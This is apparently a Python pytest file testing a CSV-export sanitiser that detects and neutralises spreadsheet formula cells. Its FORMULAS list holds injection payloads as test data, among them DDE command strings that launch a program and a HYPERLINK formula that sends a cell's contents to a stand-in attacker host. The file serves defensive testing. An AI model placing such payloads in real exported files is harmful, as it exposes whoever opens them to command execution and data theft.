"""No cell of an exported CSV file is run by the program that opens it, and no value is lost."""

from __future__ import annotations

import csv
import io
import time

import pytest

from recovery_console.core.safe_csv import is_formula, lines, safe, written

FORMULAS = [
	"=1+1",
	"=cmd|' /C calc'!A0",
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)",
	"\t=1+1",
	"\r=1+1",
	" =1+1",
	"\n=1+1",
	"\uff1d1+1",
	"\uff20SUM(1)",
	"harmless;=1+1",
	"harmless\n@SUM(A1)",
	'=HYPERLINK("https://evil.example/?"&A1,"open")',
	"-A1",
	"+31 6 1234=1",
]
PLAIN = [
	"",
	"text",
	"a = b",
	"mail@example.org",
	"-12.50",
	"+31 6 1234 5678",
	"-1,234.00",
	"12-11-2026",
	"-5 %",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_formula_is_told_and_disarmed(cell: str) -> None:
	assert is_formula(cell)
	done = safe(cell)
	assert not is_formula(done), done
	assert done.replace("'", "") == cell.replace("'", "")
	assert safe(done) == done


@pytest.mark.parametrize("cell", PLAIN)
def test_other_cells_stay_as_they_are(cell: str) -> None:
	assert not is_formula(cell)
	assert safe(cell) == cell


def test_a_file_reads_back_as_it_was_written() -> None:
	rows = [["name", "note"], ['He said "no"', "two\nlines, and a comma"], [None, 5]]
	read = list(csv.reader(io.StringIO(written(rows).decode(), newline="")))
	assert read == [["name", "note"], ['He said "no"', "two\nlines, and a comma"], ["", "5"]]


def test_rows_are_written_one_by_one() -> None:
	endless = ([str(number), "=1"] for number in iter(int, 1))
	written_lines = lines(endless)
	assert next(written_lines) == b"0,'=1\n"
	assert next(written_lines) == b"0,'=1\n"


def test_what_no_encoding_can_write_is_replaced() -> None:
	assert written([["a\ud800b", "c\x00d"]]) == b"a?b,cd\n"


@pytest.mark.parametrize("cell", ["=" * 100_000, "-" * 100_000, ";" * 100_000, "+1" * 50_000, " \t" * 50_000])
def test_no_cell_makes_it_take_forever(cell: str) -> None:
	begun = time.process_time()
	safe(cell)
	assert time.process_time() - begun < 2
